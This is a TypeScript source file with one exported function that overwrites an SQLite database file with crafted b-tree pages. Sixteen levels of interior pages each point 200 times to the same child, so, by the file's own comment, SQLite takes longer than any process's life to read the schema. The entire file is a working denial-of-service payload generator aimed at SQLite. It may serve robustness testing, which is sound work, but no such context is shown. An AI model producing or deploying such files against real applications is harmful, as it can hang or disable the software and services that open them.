import { closeSync, openSync, readSync, writeSync } from 'node:fs';

/** The levels of the schema's b-tree, in which each page leads to the next one `CHILD_COUNT` times. */
const LEVEL_COUNT = 16;
const CHILD_COUNT = 200;

const INTERIOR = 5;
const LEAF = 13;
const FILE_HEADER_BYTES = 100;

/** Rewrites the database so that SQLite takes longer than the life of any process to read its schema, which has a few
 * pages. Source: https://sqlite.org/fileformat2.html. Returns the size in bytes. */
export function makeSchemaEndless(path: string): number {
  const file = openSync(path, 'r+');
  try {
    const header = Buffer.alloc(FILE_HEADER_BYTES);
    readSync(file, header, 0, header.length, 0);
    const pageSize = header.readUInt16BE(16);
    // The number of pages, the counter of changes and the counter at which that number is valid.
    header.writeUInt32BE(LEVEL_COUNT + 1, 28);
    header.copy(header, 92, 24, 28);
    for (let level = 1; level <= LEVEL_COUNT; level++) {
      const page = buildPage(pageSize, level === 1 ? FILE_HEADER_BYTES : 0, level + 1);
      if (level === 1) header.copy(page);
      writeSync(file, page, 0, pageSize, (level - 1) * pageSize);
    }
    const leaf = buildLeaf(pageSize);
    writeSync(file, leaf, 0, pageSize, LEVEL_COUNT * pageSize);
    return (LEVEL_COUNT + 1) * pageSize;
  } finally {
    closeSync(file);
  }
}

/** A leaf with one entry of the schema, which SQLite can read any number of times. */
function buildLeaf(pageSize: number): Buffer {
  const sql = 'CREATE TABLE IF NOT EXISTS x (a)';
  const texts = ['table', 'x', 'x'];
  const textType = (text: string) => 13 + 2 * text.length;
  const header = [6, ...texts.map(textType), 1, textType(sql)];
  const record = Buffer.concat([
    Buffer.from(header),
    Buffer.from(texts.join('')),
    Buffer.from([2]),
    Buffer.from(sql),
  ]);
  const cell = Buffer.concat([Buffer.from([record.length, 1]), record]);
  const page = Buffer.alloc(pageSize);
  const content = pageSize - cell.length;
  page.writeUInt8(LEAF, 0);
  page.writeUInt16BE(1, 3);
  page.writeUInt16BE(content, 5);
  page.writeUInt16BE(content, 8);
  cell.copy(page, content);
  return page;
}

/** An interior page whose children are all the page `child`. */
function buildPage(pageSize: number, start: number, child: number): Buffer {
  const page = Buffer.alloc(pageSize);
  const cellBytes = 5;
  const content = pageSize - CHILD_COUNT * cellBytes;
  page.writeUInt8(INTERIOR, start);
  page.writeUInt16BE(CHILD_COUNT, start + 3);
  page.writeUInt16BE(content, start + 5);
  page.writeUInt32BE(child, start + 8);
  for (let cell = 0; cell < CHILD_COUNT; cell++) {
    const at = content + cell * cellBytes;
    page.writeUInt16BE(at, start + 12 + cell * 2);
    page.writeUInt32BE(child, at);
    page.writeUInt8(cell % 128, at + 4);
  }
  return page;
}
